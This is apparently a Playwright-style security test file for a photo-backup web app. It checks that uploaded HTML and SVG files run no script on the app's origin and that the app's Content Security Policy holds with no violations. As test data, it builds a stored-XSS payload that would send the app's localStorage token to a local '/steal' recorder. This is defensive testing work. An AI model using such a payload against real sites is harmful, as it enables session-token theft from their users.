// User content never runs as the app, in real Chromium against the release server: a page on
// the app's origin holding a token in localStorage opens the signed URLs of an uploaded HTML
// page and an SVG with a script, and no script of theirs runs (no marker in localStorage, no
// title change, no request to the recorder they call); and the app itself still loads, backs up
// a file and shows its library under its own CSP with no CSP violation, also when the service
// worker serves the page.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import crypto from 'node:crypto';
import { startServer } from '../lib/server.mjs';
import { launch, dropPaths, waitForStatus, backUpAndWait } from '../lib/browser.mjs';
import { statusDetail } from '../lib/app.mjs';
import { writeTree, jpeg } from '../lib/fixtures.mjs';
import { untilControlled } from '../lib/pwa.mjs';
import { waitForGrid } from '../lib/library.mjs';

let server, recorder;
const hits = [];

before(async () => {
  server = await startServer();
  // Whatever a stored script manages to send lands here.
  recorder = http.createServer((req, res) => { hits.push(req.url); res.end('ok'); });
  await new Promise((r) => recorder.listen(0, '127.0.0.1', r));
});
after(async () => { await server?.stop(); recorder?.close(); });

/** Uploads `bytes` as the server's user over tus, declaring `filename` and `filetype`. */
async function upload(bytes, filename, filetype) {
  const meta = Object.entries({ filename, filetype, sha256: crypto.createHash('sha256').update(bytes).digest('hex') })
    .map(([k, v]) => `${k} ${Buffer.from(v).toString('base64')}`).join(',');
  const tus = { 'Tus-Resumable': '1.0.0', Authorization: `Bearer ${server.token}` };
  const created = await fetch(`${server.base}/files/`, { method: 'POST', headers: { ...tus, 'Upload-Length': String(bytes.length), 'Upload-Metadata': meta } });
  assert.equal(created.status, 201, await created.text());
  const loc = new URL(created.headers.get('location'), server.base).href;
  const patched = await fetch(loc, { method: 'PATCH', headers: { ...tus, 'Upload-Offset': '0', 'Content-Type': 'application/offset+octet-stream' }, body: bytes });
  assert.equal(patched.status, 204, await patched.text());
  const sha = crypto.createHash('sha256').update(bytes).digest('hex');
  return (await server.media()).find((m) => m.sha256 === sha);
}

/** Collects CSP violations: Chromium's console reports and the DOM event, in pages and workers. */
async function watchCsp(b) {
  const violations = [];
  await b.context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => console.error(`CSP violation: ${e.violatedDirective} ${e.blockedURI}`));
  });
  const watch = (m) => { if (/Content Security Policy|CSP violation/i.test(m.text())) violations.push(m.text()); };
  b.page.on('console', watch);
  b.page.on('worker', (w) => w.on('console', watch));
  return violations;
}

test('an uploaded HTML page or SVG opened from its signed URL runs no script on the app origin', async () => {
  const steal = `http://127.0.0.1:${recorder.address().port}/steal`;
  const script = `localStorage.setItem('pwned', 'yes'); document.title = 'pwned'; `
    + `fetch('${steal}?' + encodeURIComponent(localStorage.getItem('shoebox-token') || 'no token')).catch(() => {}); `
    + `new Image().src = '${steal}-img';`;
  const html = Buffer.from(`<!doctype html><html><head><title>page</title><script>${script}</script></head><body>hi</body></html>`);
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>${script}</script><rect width="10" height="10"/></svg>`);
  const items = [await upload(html, 'page.html', 'text/html'), await upload(svg, 'drawing.svg', 'image/svg+xml')];
  const b = await launch({ acceptDownloads: true });
  try {
    const page = b.page;
    // A page of the app's origin that holds a token, as the app does.
    await page.goto(`${server.base}/manifest.webmanifest`);
    await page.evaluate(() => localStorage.setItem('shoebox-token', 'secret-token'));
    const downloads = [];
    page.on('download', (d) => downloads.push(d.suggestedFilename()));
    for (const item of items) {
      for (const url of [item.originalUrl, item.previewUrl, item.downloadUrl]) {
        // A download aborts the navigation; a rendered page would load.
        await page.goto(new URL(url, server.base).href).catch(() => {});
        await page.waitForTimeout(300);
        assert.notEqual(await page.title().catch(() => ''), 'pwned', `${item.filename}: ${url}`);
      }
    }
    await page.goto(`${server.base}/manifest.webmanifest`);
    assert.equal(await page.evaluate(() => localStorage.getItem('pwned')), null, 'no stored script wrote to the app origin');
    assert.equal(await page.evaluate(() => localStorage.getItem('shoebox-token')), 'secret-token');
    assert.deepEqual(hits, [], 'no stored script reached the recorder');
    // The navigations did reach the files: each became a download, never a page.
    assert.ok(downloads.includes('page.html') && downloads.includes('drawing.svg'), `downloads: ${downloads.join(', ')}`);
    // Their answers say so, as the browser saw them.
    const head = await page.evaluate(async (u) => {
      const r = await fetch(u);
      return { type: r.headers.get('content-type'), csp: r.headers.get('content-security-policy'), cd: r.headers.get('content-disposition') };
    }, new URL(items[1].originalUrl, server.base).href);
    assert.equal(head.type, 'application/octet-stream');
    assert.match(head.csp, /^default-src 'none'.*\bsandbox\b/);
    assert.match(head.cd, /^attachment/);
  } finally { await b.close(); }
});

test('the app loads, backs up and shows its library under its CSP with no violation', async () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'shoebox-csp-'));
  writeTree(path.join(dir, 'Trip'), { 'IMG_1.jpg': jpeg('csp-1'), 'IMG_2.jpg': jpeg('csp-2') });
  const b = await launch();
  try {
    const page = b.page;
    const violations = await watchCsp(b);
    const res = await page.goto(server.appUrl());
    const csp = res.headers()['content-security-policy'] || '';
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/, `the page has the app's CSP: ${csp}`);
    assert.match(csp, /object-src 'none'/);
    await dropPaths(page, '[data-testid="drop-zone"]', [path.join(dir, 'Trip')]);
    await waitForStatus(page, /^Ready to back up 2 photos and videos$/);
    await backUpAndWait(page);
    assert.equal(await statusDetail(page), '2 uploaded');
    await page.getByTestId('nav-library').click();
    await waitForGrid(page, (await server.media()).length);
    // The photos' thumbnails are drawn (img-src allows the server's signed URLs).
    await page.waitForFunction(() => {
      const imgs = [...document.querySelectorAll('[data-testid="thumb"][data-name^="IMG_"] img')];
      return imgs.length === 2 && imgs.every((i) => i.complete && i.naturalWidth > 0);
    });
    // The same page served by the service worker keeps its CSP and its loader still runs.
    await untilControlled(page);
    await page.goto(server.appUrl());
    await waitForStatus(page, /^Ready$|^Backup complete$|^Up to date/).catch(() => {});
    await page.getByTestId('nav-library').waitFor();
    assert.deepEqual(violations, [], 'no CSP violation while the app worked');
    // And the policy is in force there: a script injected into the page does not run.
    const ran = await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__injected = true;';
      document.head.append(s);
      return window.__injected === true;
    });
    assert.equal(ran, false, 'an injected inline script is refused');
    // ...and reported, which shows the watcher above would have seen any other violation.
    for (let i = 0; i < 50 && violations.length === 0; i++) await page.waitForTimeout(100);
    assert.ok(violations.some((v) => /script-src/.test(v)), `the refusal was reported: ${violations.join(' | ')}`);
    assert.ok(await page.evaluate(() => !!navigator.serviceWorker.controller), 'that page came through the service worker');
  } finally { await b.close(); fs.rmSync(dir, { recursive: true, force: true }); }
});
